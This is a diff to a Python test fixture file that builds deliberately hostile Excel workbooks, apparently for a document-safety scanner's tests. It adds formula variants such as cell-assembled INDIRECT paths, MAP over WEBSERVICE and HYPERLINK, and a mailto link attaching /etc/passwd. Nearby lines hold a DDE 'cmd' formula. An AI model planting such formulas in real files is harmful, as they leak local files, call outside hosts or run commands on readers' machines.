@@ -2,7 +2,7 @@
 
 from html import escape
 
-from tests.support.files import relations
+from tests.support.files import office, relations
 from tests.support.hostile_office import part
 from tests.support.hostile_parts import EXTERNAL, FORMULA, LINK, MACROS
 
@@ -22,6 +22,19 @@ def named(formula: str, said: str = "") -> bytes:
     """A workbook with a name for a formula."""
     name = f'<definedName name="a" {said}>{formula}</definedName>'
     return part("xl/workbook.xml", f'<workbook xmlns="{SHEET}">{name}</workbook>', "xlsx")
+
+
+def told(*texts: str, formula: str = 'INDIRECT("\'"&A1&"\'!B2")', more: str = "") -> bytes:
+    """A workbook with a formula that makes a place of texts, with these texts and `more` cells."""
+    strings = "".join(f"<si><t>{escape(one)}</t></si>" for one in texts)
+    return office(
+        "xlsx",
+        **{
+            "xl__worksheets__sheet1.xml": f'<worksheet xmlns="{SHEET}"><c><f>'
+            f"{escape(formula)}</f></c>{more}</worksheet>".encode(),
+            "xl__sharedStrings.xml": f'<sst xmlns="{SHEET}">{strings}</sst>'.encode(),
+        },
+    )
 
 
 def bound(tie: str, at: str = "_rels/workbook") -> bytes:
@@ -55,11 +68,44 @@ HOSTILE_WORKBOOKS = {
             "picture": '_xlfn.IMAGE("http://x.example/a.png")',
             "cube": 'CUBEVALUE("a","b")',
             "path put together": 'INDIRECT("\'\\\\serveur\\["&A1&"]F\'!A1")',
+            "path whose signs are cut": 'INDIRECT("/"&"/serveur/["&A1&"]F!A1")',
+            "path cut before its sheet": 'INDIRECT("a[b.xlsx]"&"F!A1")',
+            "path of signs made of numbers": "INDIRECT(A1&CHAR(91)&A2&CHAR(93)&A3)",
+            "path of a sign made of a wide one": "INDIRECT(A1&ASC(A2)&A3)",
+            "path of a sign of an address": "INDIRECT(A1&MID(ADDRESS(1,1,4,FALSE),2,1)&A2)",
+            "place of a document beside": "INDIRECT(\"'a.ods'#$F.A1\")",
+            "place handed over": 'MAP(A1:A2,_xleta.INDIRECT)&"["',
+            "web service handed over": "MAP(A1:A2,_xleta.WEBSERVICE)",
+            "web service handed over, prefixed": "MAP(A1:A2,_xlfn._xleta._xlfn.WEBSERVICE)",
+            "link handed over": "MAP(A1:A2,_xleta.HYPERLINK)",
+            "mail that takes a file along": 'HYPERLINK("mailto:a@b.example?attach=/etc/passwd")',
+            "mail put together": 'HYPERLINK("mailto:"&A1)',
+            "mail whose parameter is cut": 'HYPERLINK("mailto:a@b.example?att"&"ach=/a")',
             "function of an add-in": "_xll.ouvrir(1)",
             "function of a file": "'c:\\a.xlam'!ouvrir(1)",
             "text without end": 'SUM("',
         }.items()
     },
+    "place of another workbook told by a cell": ("a.xlsx", told("Ana", "[a.xlsx]F"), FORMULA),
+    "place of another document told by a cell": ("a.xlsx", told("file:///a.ods'#$F"), FORMULA),
+    "place told by another formula": (
+        "a.xlsx",
+        sheet('INDIRECT(A1&"!A1")', '"["&A2'),
+        FORMULA,
+    ),
+    "place told by a cell, in a defined name": (
+        "a.xlsx",
+        office(
+            "xlsx",
+            **{
+                "xl__workbook.xml": f'<workbook xmlns="{SHEET}"><definedName name="a">INDIRECT(b)'
+                "</definedName></workbook>".encode(),
+                "xl__worksheets__sheet1.xml": f'<worksheet xmlns="{SHEET}"><c t="inlineStr"><is>'
+                "<t>[a.xlsx]F!A1</t></is></c></worksheet>".encode(),
+            },
+        ),
+        FORMULA,
+    ),
     "formula in a defined name": (
         "a.xlsx",
         named("cmd|'/c calc'!A1"),
